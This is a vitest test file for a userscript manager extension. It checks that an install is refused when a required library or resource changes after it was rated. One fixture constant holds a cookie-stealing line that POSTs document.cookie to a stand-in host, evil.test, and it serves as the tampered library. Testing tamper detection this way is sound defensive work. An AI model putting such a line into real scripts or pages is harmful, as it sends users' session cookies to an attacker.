import { systemClock } from "@scriptorium/core-types/clock";
import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { createClient } from "@scriptorium/shared-protocol/channel/client";
import { createPortPair } from "@scriptorium/shared-protocol/channel/in-memory-port";
import { createServer, servePort } from "@scriptorium/shared-protocol/channel/serve";
import { confirmInstall } from "@scriptorium/shared-protocol/extension-internal/confirm-install";
import { loadScriptFiles } from "@scriptorium/shared-protocol/extension-internal/load-script-files";
import { describe, expect, it } from "vitest";
import { serveInstall } from "../../../extension/src/features/install-scripts/background/serve-install.ts";
import { createMemoryStore } from "../../../extension/src/platform/storage/memory-store.test-support.ts";
import { createScriptLibrary } from "../../../extension/src/script-library/script-library.ts";

const HUB = "https://hub.test";
const SOURCE = "https://site.test/a.user.js";
const LIBRARY = "https://cdn.test/x.js";
const PICTURE = "https://cdn.test/x.png";
const STEALS = "fetch('https://evil.test/', { method: 'POST', body: document.cookie });";
const CODE = `// ==UserScript==
// @name a
// @match https://site.test/*
// @require ${LIBRARY}
// @resource picture ${PICTURE}
// ==/UserScript==
x();
`;

function open() {
	const store = createMemoryStore();
	const library = createScriptLibrary({ store, now: () => 0, newId: () => crypto.randomUUID() });
	const served = new Map<string, BodyInit>([
		[LIBRARY, "function x() { document.title = 'x'; }"],
		[PICTURE, new Uint8Array([0x89, 0xff])],
	]);
	const asked: string[] = [];
	const ports = {
		library,
		session: createMemoryStore(),
		hubOrigin: HUB,
		newId: () => crypto.randomUUID(),
		fetcher: async (input: RequestInfo | URL) => {
			asked.push(String(input));
			const body = served.get(String(input));
			return new Response(body ?? "", { status: body === undefined ? 404 : 200 });
		},
		now: () => Date.parse("2026-11-30T00:00:00Z"),
		onChanged: async () => ({ allowed: true }),
	};
	/** A new worker, which knows nothing of what an earlier one loaded. */
	const worker = () => {
		const [page, side] = createPortPair("internal");
		const options = { clock: systemClock, log: () => undefined, source: "extension" as const };
		const server = createServer<null>({ ...options, served: serveInstall(ports), from: "extension" });
		servePort(side, server, { caller: "confirm-install", sender: null }, options.log);
		return createClient(page, options);
	};
	const script = { sourceUrl: SOURCE, code: CODE, replaces: null };
	const load = async (client = worker()) => {
		const loaded = await client.request(loadScriptFiles, script, { timeoutMs: 1000 });
		if (!loaded.ok) throw new Error(loaded.error.message);
		return loaded.value;
	};
	const install = (files: Awaited<ReturnType<typeof load>>["files"], client = worker()) =>
		client.request(confirmInstall, { ...script, files, rating: null }, { timeoutMs: 1000 });
	return { library, served, asked, worker, load, install };
}

describe("extension-internal: files of a script that is installed", () => {
	it("are loaded once, rated, and installed", async () => {
		const { library, asked, worker, load, install } = open();
		const client = worker();
		const { files, libraries } = await load(client);
		expect(files.map(({ kind, address }) => `${kind} ${address}`)).toEqual([`library ${LIBRARY}`, `file ${PICTURE}`]);
		expect(libraries).toEqual([{ address: LIBRARY, text: "function x() { document.title = 'x'; }" }]);
		expect(analyzeScript({ code: CODE, libraries }).capabilities.libraries).toMatchObject([{ state: "checked" }]);
		expect(await install(files, client)).toMatchObject({ ok: true });
		expect(asked).toEqual([LIBRARY, PICTURE]);
		expect((await library.list()).scripts).toMatchObject([{ requires: [{ address: LIBRARY }], resources: [{}] }]);
	});

	it.each([
		["a library", LIBRARY, STEALS],
		["another file", PICTURE, new Uint8Array([0x89, 0xfe])],
	])("an install is refused when %s is not what was rated", async (_, address, body) => {
		const { library, served, load, install } = open();
		const { files } = await load();
		served.set(address, body);
		const refused = await install(files);
		expect(refused).toMatchObject({ ok: false, error: { code: "LIBRARY_CHANGED" } });
		expect(refused.ok ? "" : refused.error.message).toContain(`${address} is not the file that was checked`);
		expect((await library.list()).scripts).toEqual([]);
		// The page is loaded again, and rates the new file.
		const again = await load();
		expect(await install(again.files)).toMatchObject({ ok: true });
	});

	it("an install that brings a file which was not rated is refused", async () => {
		const { library, served, load, install } = open();
		served.delete(LIBRARY);
		const { files, libraries } = await load();
		expect(libraries).toEqual([{ address: LIBRARY, problem: "it answered 404", differs: false }]);
		served.set(LIBRARY, STEALS);
		expect(await install(files)).toMatchObject({ ok: false, error: { code: "LIBRARY_CHANGED" } });
		expect(await install([])).toMatchObject({ ok: false, error: { code: "LIBRARY_CHANGED" } });
		expect((await library.list()).scripts).toEqual([]);
	});

	it("what a page loaded for another text is not installed with this one", async () => {
		const { served, worker, load, install, asked } = open();
		const client = worker();
		const { files } = await load(client);
		await client.request(
			loadScriptFiles,
			{ sourceUrl: SOURCE, code: CODE.replace("x();", "y();"), replaces: null },
			{ timeoutMs: 1000 },
		);
		served.set(LIBRARY, STEALS);
		expect(await install(files, client)).toMatchObject({ ok: false, error: { code: "LIBRARY_CHANGED" } });
		expect(asked.length).toBe(6);
	});
});
